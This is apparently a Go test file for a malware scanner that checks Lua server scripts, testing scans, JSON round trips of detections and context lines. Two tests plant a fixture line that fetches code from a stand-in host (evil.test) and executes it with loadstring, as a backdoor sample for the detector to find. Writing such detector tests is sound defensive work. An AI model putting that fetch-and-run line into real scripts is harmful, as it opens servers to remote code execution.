package core

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestScan_Smoke(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Root = t.TempDir()
	dets, err := Scan(context.Background(), cfg)
	require.NoError(t, err)
	assert.Empty(t, dets)
	assert.NotEmpty(t, Categories(SensitivityMedium))
	assert.Greater(t, len(Categories(SensitivityHigh)), len(Categories(SensitivityLow)))
}

func TestScanWithStats_JSONRoundTrip(t *testing.T) {
	root := t.TempDir()
	p := filepath.Join(root, "server.lua")
	require.NoError(t, os.WriteFile(p, []byte(`loadstring(PerformHttpRequest("http://evil.test/x.php"))`), 0o644))

	cfg := DefaultConfig()
	cfg.Root = root
	res, err := ScanWithStats(context.Background(), cfg)
	require.NoError(t, err)
	require.NotEmpty(t, res.Detections)
	assert.Equal(t, 1, res.Stats.FilesScanned)

	var buf bytes.Buffer
	require.NoError(t, MarshalDetections(&buf, res.Detections))
	back, err := UnmarshalDetections(&buf)
	require.NoError(t, err)
	assert.Equal(t, len(res.Detections), len(back))
	assert.Equal(t, res.Detections[0].Key(), back[0].Key())
	assert.Equal(t, res.Detections[0].RiskLevel, back[0].RiskLevel)
}

func TestScan_ZeroConfigHasNoContext(t *testing.T) {
	root := t.TempDir()
	body := "local a = 1\nloadstring(PerformHttpRequest(\"http://evil.test/x.php\"))\nlocal b = 2\n"
	require.NoError(t, os.WriteFile(filepath.Join(root, "server.lua"), []byte(body), 0o644))

	bare, err := Scan(context.Background(), Config{Root: root})
	require.NoError(t, err)
	require.NotEmpty(t, bare)
	assert.NotContains(t, bare[0].Context, "local a")

	cfg := DefaultConfig()
	cfg.Root = root
	full, err := Scan(context.Background(), cfg)
	require.NoError(t, err)
	require.NotEmpty(t, full)
	assert.Contains(t, full[0].Context, "    1: local a = 1")
	assert.Contains(t, full[0].Context, "    3: local b = 2")
}

func TestMarshalDetections_Empty(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, MarshalDetections(&buf, nil))
	assert.Equal(t, "[]\n", buf.String())
}
